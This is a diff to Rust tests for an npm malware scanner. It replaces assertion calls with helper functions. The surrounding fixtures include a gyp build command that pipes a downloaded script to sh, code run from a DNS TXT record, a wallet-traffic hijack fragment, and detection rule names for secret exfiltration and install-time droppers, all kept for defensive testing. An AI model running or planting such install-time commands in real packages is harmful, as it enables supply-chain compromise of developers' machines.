@@ -7,8 +7,8 @@
 mod common;
 
 use common::{
-    analyse_npm as analyse, assert_not_verdict, assert_verdict, has, npm_manifest as manifest,
-    rule_ids,
+    analyse_npm as analyse, assert_has, assert_lacks, assert_not_verdict, assert_verdict, has,
+    npm_manifest as manifest, rule_ids,
 };
 use palisade_core::Verdict;
 
@@ -30,7 +30,7 @@ fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
     // At the script's own line of the manifest.
     assert_eq!(harvest.path.as_deref(), Some("package/package.json"));
     assert_eq!(harvest.line, Some(5));
-    assert!(has(&attack, "correlate/secrets-and-network"));
+    assert_has(&attack, "correlate/secrets-and-network");
 
     // The same command as a maintainer's release step never runs on install.
     let release = analyse(&[(
@@ -40,7 +40,7 @@ fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
         )),
     )]);
     assert_verdict(&release, Verdict::Clean);
-    assert!(!has(&release, "correlate/secrets-and-network"));
+    assert_lacks(&release, "correlate/secrets-and-network");
 
     // Named by a hook, or hidden behind a harmless duplicate of the hook's key, it runs.
     for scripts in [
@@ -104,11 +104,7 @@ fn every_way_to_list_the_environment_counts_at_the_start_of_a_script() {
             "    \"install\": \"env | grep -i _proxy= || true; curl -sLo bin/tool https://dl.files.example/tool\"",
         ),
     )]);
-    assert!(
-        !has(&honest, "exfil/env-harvest-shell"),
-        "{:?}",
-        rule_ids(&honest)
-    );
+    assert_lacks(&honest, "exfil/env-harvest-shell");
     assert_not_verdict(&honest, Verdict::Malicious);
 }
 
@@ -135,7 +131,7 @@ fn an_install_script_that_leaves_a_detached_program_running_is_a_dropper() {
         ),
         ("install.js", DROPPER),
     ]);
-    assert!(has(&attack, "correlate/install-time-background-process"));
+    assert_has(&attack, "correlate/install-time-background-process");
     assert_verdict(&attack, Verdict::Malicious);
 
     // A dev server that detaches its worker when asked is library code, not install time.
@@ -143,7 +139,7 @@ fn an_install_script_that_leaves_a_detached_program_running_is_a_dropper() {
         ("package.json", &manifest("    \"test\": \"jest\"")),
         ("lib/server.js", DROPPER),
     ]);
-    assert!(!has(&library, "correlate/install-time-background-process"));
+    assert_lacks(&library, "correlate/install-time-background-process");
     assert_not_verdict(&library, Verdict::Malicious);
 }
 
@@ -159,7 +155,7 @@ dns.resolveTxt('k.mail-check.example', (err, records) => {
 });
 "#;
     let analysis = analyse(&[("package.json", &manifest("")), ("index.js", attack)]);
-    assert!(has(&analysis, "execution/dns-txt-code"));
+    assert_has(&analysis, "execution/dns-txt-code");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // A driver reading seed-list options from TXT records reads data.
@@ -173,7 +169,7 @@ function resolveSrvOptions(host, callback) {
 module.exports = { resolveSrvOptions };
 "#;
     let analysis = analyse(&[("package.json", &manifest("")), ("lib/srv.js", driver)]);
-    assert!(!has(&analysis, "execution/dns-txt-code"));
+    assert_lacks(&analysis, "execution/dns-txt-code");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -187,7 +183,7 @@ window.fetch = async function (...args) { const r = await origFetch.apply(this, 
 module.exports = (s) => s;
 "#;
     let analysis = analyse(&[("package.json", &manifest("")), ("index.js", drainer)]);
-    assert!(has(&analysis, "correlate/wallet-traffic-hijack"));
+    assert_has(&analysis, "correlate/wallet-traffic-hijack");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // A fetch polyfill and a wallet library validating addresses are neither.
@@ -198,7 +194,7 @@ module.exports = (s) => s;
         ("polyfill.js", polyfill),
         ("address.js", validator),
     ]);
-    assert!(!has(&analysis, "correlate/wallet-traffic-hijack"));
+    assert_lacks(&analysis, "correlate/wallet-traffic-hijack");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -212,13 +208,13 @@ fn rundll32_on_a_shipped_dll_is_not_opening_a_url() {
         ),
         ("install.js", attack),
     ]);
-    assert!(has(&analysis, "download/rundll32-local-dll"));
+    assert_has(&analysis, "download/rundll32-local-dll");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // Opening a link with Windows' own url.dll is what browser-launching helpers do.
     let opener = "const { spawn } = require('child_process');\nmodule.exports = (url) => spawn('rundll32', ['url.dll,FileProtocolHandler', url]);\n";
     let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
-    assert!(!has(&analysis, "download/rundll32-local-dll"));
+    assert_lacks(&analysis, "download/rundll32-local-dll");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -228,7 +224,7 @@ fn honest_shapes_the_review_found_near_the_new_rules() {
     // into links, to no account written in the bundle.
     let bundle = "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(xhrFetch(input, init)); }; }\nexport function linkify(t) { return t.replace(/0x[a-fA-F0-9]{40}/g, (a) => '<a href=\"/address/' + a + '\">' + a + '</a>'); }\n";
     let analysis = analyse(&[("package.json", &manifest("")), ("dist/index.js", bundle)]);
-    assert!(!has(&analysis, "correlate/wallet-traffic-hijack"));
+    assert_lacks(&analysis, "correlate/wallet-traffic-hijack");
     assert_verdict(&analysis, Verdict::Clean);
 
     // An update check re-running node on the package's own file, detached, fetches
@@ -241,18 +237,18 @@ fn honest_shapes_the_review_found_near_the_new_rules() {
         ),
         ("notify.js", notifier),
     ]);
-    assert!(!has(&update, "correlate/install-time-background-process"));
+    assert_lacks(&update, "correlate/install-time-background-process");
     assert_not_verdict(&update, Verdict::Malicious);
 
     // An SPF reader matches the record with a regular expression's `.exec`.
     let spf = "const dns = require('dns');\ndns.resolveTxt(d, (e, r) => { const m = /^v=spf1 (.*)$/.exec(r[0].join('')); cb(m); });\n";
     let analysis = analyse(&[("package.json", &manifest("")), ("spf.js", spf)]);
-    assert!(!has(&analysis, "execution/dns-txt-code"));
+    assert_lacks(&analysis, "execution/dns-txt-code");
 
     // Prettier splits the arguments of a URL opener over lines.
     let opener = "spawn('rundll32', [\n  'url.dll,FileProtocolHandler',\n  url,\n]);\n";
     let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
-    assert!(!has(&analysis, "download/rundll32-local-dll"));
+    assert_lacks(&analysis, "download/rundll32-local-dll");
 }
 
 #[test]
@@ -267,11 +263,7 @@ fn gyp_command_expansions_and_inline_node_are_install_time_code() {
     let attack = gyp(
         "{ \"targets\": [{ \"target_name\": \"x\", \"sources\": [\"<!(curl -s https://dl.files.example/b | sh)\"] }] }\n",
     );
-    assert!(
-        has(&attack, "download/pipe-to-shell"),
-        "{:?}",
-        rule_ids(&attack)
-    );
+    assert_has(&attack, "download/pipe-to-shell");
     assert_verdict(&attack, Verdict::Malicious);
     let honest = gyp(
         "{ \"targets\": [{ \"target_name\": \"x\", \"include_dirs\": [\"<!(node -p \\\"require('node-addon-api').include\\\")\"], \"sources\": [\"src/x.cc\"] }] }\n",
@@ -322,9 +314,5 @@ fn a_shipped_program_started_detached_at_install_is_still_a_background_process()
         ),
         ("install.js", starter),
     ]);
-    assert!(
-        has(&analysis, "correlate/install-time-background-process"),
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_has(&analysis, "correlate/install-time-background-process");
 }
